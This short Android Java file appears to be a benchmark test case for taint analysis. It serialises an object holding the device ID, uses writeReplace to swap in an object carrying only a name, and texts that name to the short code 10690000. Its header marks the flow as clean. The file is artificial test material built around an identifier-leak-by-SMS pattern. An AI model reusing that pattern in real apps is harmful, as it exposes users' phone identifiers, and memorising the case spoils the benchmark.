// about       Another object is written in the place of this one, and it holds a word.
// clean       -
package cn.example.flow;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.ObjectInputStream;
import java.io.ObjectOutputStream;
import java.io.Serializable;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
    try {
      ByteArrayOutputStream bytes = new ByteArrayOutputStream();
      ObjectOutputStream out = new ObjectOutputStream(bytes);
      out.writeObject(new Card("me", phone.getDeviceId()));
      out.close();
      ObjectInputStream in = new ObjectInputStream(new ByteArrayInputStream(bytes.toByteArray()));
      Short read = (Short) in.readObject();
      SmsManager.getDefault().sendTextMessage("10690000", null, read.text, null, null);
    } catch (IOException | ClassNotFoundException e) {
      finish();
    }
  }
}

class Card implements Serializable {
  String name;
  String number;

  Card(String name, String number) {
    this.name = name;
    this.number = number;
  }

  private Object writeReplace() {
    Short written = new Short();
    written.text = name;
    return written;
  }
}

class Short implements Serializable {
  String text;
}
